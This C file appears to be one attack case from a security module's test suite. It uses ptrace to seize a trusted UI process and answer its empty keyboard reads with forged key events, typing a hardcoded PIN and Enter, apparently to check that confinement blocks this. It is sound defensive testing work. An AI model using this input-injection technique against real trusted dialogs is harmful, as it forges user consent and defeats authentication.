// SPDX-License-Identifier: Apache-2.0
/*
 * Traces the trusted user interface's system calls and answers its read() of the
 * keyboard with key presses of its own: a PIN, then Enter.
 *
 * attack: ptrace_seize
 * class: process
 * when: session
 * judge: decided
 * quick: yes
 * defence: confinement
 * why: PTRACE_SEIZE and SYSCALL; as with ptrace_attach, and the module gives a traced
 *      process neither keys nor a decision
 */
#include <errno.h>
#include <linux/input.h>
#include <stdbool.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>

#include "evdev.h"
#include "process.h"
#include "report.h"
#include "tracer.h"

#define PIN	"24681357"
#define GRACE	1300	/* milliseconds after which a dialog takes keys */

/* A press and a release, as evdev tells them. */
static int fake_press(pid_t pid, struct user_regs_struct *regs, unsigned int key)
{
	const struct input_event events[] = {
		{ .type = EV_KEY, .code = (unsigned short)key, .value = 1 },
		{ .type = EV_SYN },
		{ .type = EV_KEY, .code = (unsigned short)key, .value = 0 },
		{ .type = EV_SYN },
	};

	if (regs->rdx < sizeof(events))
		return -EINVAL;
	regs->rax = sizeof(events);
	if (ptrace(PTRACE_SETREGS, pid, NULL, regs))
		return -errno;
	return tracer_poke(pid, regs->rsi, events, sizeof(events));
}

/* The next read() that has nothing to read. */
static int next_empty_read(pid_t pid, struct user_regs_struct *regs)
{
	bool leaving = true;
	int ret;

	do {
		ret = tracer_next_stop(pid, PTRACE_SYSCALL, regs);
		leaving = !leaving;
	} while (!ret && !(leaving && regs->orig_rax == SYS_read && (long)regs->rax == -EAGAIN));
	return ret;
}

static int type(pid_t pid)
{
	struct user_regs_struct regs;
	const char *c;
	int ret = 0;

	for (c = PIN; *c && !ret; c++) {
		ret = next_empty_read(pid, &regs);
		if (!ret)
			ret = fake_press(pid, &regs, evdev_key(*c));
	}
	if (!ret)
		ret = next_empty_read(pid, &regs);
	return ret ? ret : fake_press(pid, &regs, KEY_ENTER);
}

int main(void)
{
	pid_t pid;
	int ret;

	attack_init();
	attack_ready();
	pid = process_wait_tui();
	if (!pid)
		attack_failed("it sees no tconn-tui");
	attack_wait(GRACE);
	ret = tracer_stop(pid, PTRACE_O_TRACESYSGOOD);
	if (!ret)
		ret = type(pid);
	if (ret)
		attack_failed("process %d cannot be traced: %s", pid, strerror(-ret));
	tracer_release(pid);
	attack_done();
}
